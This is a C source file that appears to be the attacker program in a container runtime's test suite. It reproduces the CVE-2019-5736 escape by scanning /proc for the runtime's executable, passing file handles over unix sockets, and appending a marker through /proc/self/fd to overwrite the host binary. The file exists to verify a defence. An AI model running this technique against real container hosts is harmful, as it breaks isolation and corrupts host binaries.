/* The CVE-2019-5736 attacker, run inside rrun containers by
 * runner/tests/exeseal.rs. Linked static (the busybox image has no libc).
 * It looks for handles to a file of SIZE bytes (the rrun binary under
 * test) behind /proc/<pid>/exe and tries to append to it through
 * /proc/self/fd/N, again and again, for as long as it runs.
 *
 *   watch SIZE          every new process in the container: open its exe
 *                       (O_PATH); keep those of SIZE bytes; retry writing
 *                       through every kept handle.
 *   send PATH SOCK SIZE open PATH (O_PATH) until it is a file of SIZE
 *                       bytes, hand it over the unix socket SOCK, sleep.
 *   recv SOCK           accept handles on SOCK; retry writing through each.
 *
 * Output, one line per event: `handle <from>`, `reopen <errno name>` (the
 * first time each error is seen), `write ok`. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define MAX_HANDLES 256
static int handles[MAX_HANDLES];
static int nhandles;
static int seen_errno[256];

static void say(const char *fmt, const char *arg) {
    char line[256];
    int n = snprintf(line, sizeof line, fmt, arg);
    if (n > 0) write(1, line, (size_t)n < sizeof line ? (size_t)n : sizeof line - 1);
}

static int has_size(int fd, long size) {
    struct stat st;
    return fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && st.st_size == size;
}

static void keep(int fd, const char *from) {
    if (nhandles < MAX_HANDLES) {
        handles[nhandles++] = fd;
        say("handle %s\n", from);
    } else {
        close(fd);
    }
}

/* Reopen every kept handle for writing and append to it. */
static void try_writes(void) {
    for (int i = 0; i < nhandles; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", handles[i]);
        int w = open(path, O_WRONLY | O_APPEND);
        if (w < 0) {
            int e = errno & 0xff;
            if (!seen_errno[e]) {
                seen_errno[e] = 1;
                say("reopen %s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "E?");
            }
            continue;
        }
        if (write(w, "PWNED-BY-CONTAINER\n", 19) == 19) say("write %s\n", "ok");
        close(w);
    }
}

static int watch(long size) {
    static char seen[4194304 / 8];
    seen[getpid() / 8] |= 1 << (getpid() % 8);
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            long pid = strtol(e->d_name, NULL, 10);
            if (pid <= 0 || pid >= 4194304) continue;
            if (seen[pid / 8] & (1 << (pid % 8))) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue; /* not yet exec'ed, gone, or not ours to see */
            if (has_size(fd, size)) {
                seen[pid / 8] |= 1 << (pid % 8);
                keep(fd, e->d_name);
            } else {
                close(fd); /* busybox: look again, it may exec rrun later */
            }
        }
        closedir(d);
        try_writes();
    }
}

static int unix_socket(const char *path, struct sockaddr_un *a) {
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    strncpy(a->sun_path, path, sizeof a->sun_path - 1);
    return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static int send_handle(const char *target, const char *sock, long size) {
    int fd;
    for (;;) {
        fd = open(target, O_PATH | O_CLOEXEC);
        if (fd >= 0 && has_size(fd, size)) break;
        if (fd >= 0) close(fd);
        usleep(1000);
    }
    say("handle %s\n", target);
    struct sockaddr_un a;
    int s = unix_socket(sock, &a);
    while (connect(s, (struct sockaddr *)&a, sizeof a) < 0) usleep(10000);
    char byte = 'h';
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    char cbuf[CMSG_SPACE(sizeof(int))];
    memset(cbuf, 0, sizeof cbuf);
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
                       .msg_controllen = sizeof cbuf};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (sendmsg(s, &m, 0) != 1) return 1;
    say("sent %s\n", target);
    /* The handle also stays here, and we retry too. */
    keep(fd, "self");
    for (;;) {
        try_writes();
        usleep(10000);
    }
}

static int recv_handles(const char *sock) {
    struct sockaddr_un a;
    int s = unix_socket(sock, &a);
    unlink(sock);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 8) < 0) return 1;
    fcntl(s, F_SETFL, O_NONBLOCK);
    say("listening %s\n", sock);
    for (;;) {
        int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
        if (c >= 0) {
            char byte;
            struct iovec iov = {.iov_base = &byte, .iov_len = 1};
            char cbuf[CMSG_SPACE(sizeof(int))];
            struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
                               .msg_controllen = sizeof cbuf};
            if (recvmsg(c, &m, 0) == 1) {
                struct cmsghdr *h = CMSG_FIRSTHDR(&m);
                if (h && h->cmsg_type == SCM_RIGHTS) {
                    int fd;
                    memcpy(&fd, CMSG_DATA(h), sizeof fd);
                    keep(fd, "received");
                }
            }
            close(c);
        }
        try_writes();
        usleep(10000);
    }
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "watch")) return watch(atol(argv[2]));
    if (argc == 5 && !strcmp(argv[1], "send")) return send_handle(argv[2], argv[3], atol(argv[4]));
    if (argc == 3 && !strcmp(argv[1], "recv")) return recv_handles(argv[2]);
    fprintf(stderr, "usage: attacker watch SIZE | send PATH SOCK SIZE | recv SOCK\n");
    return 2;
}
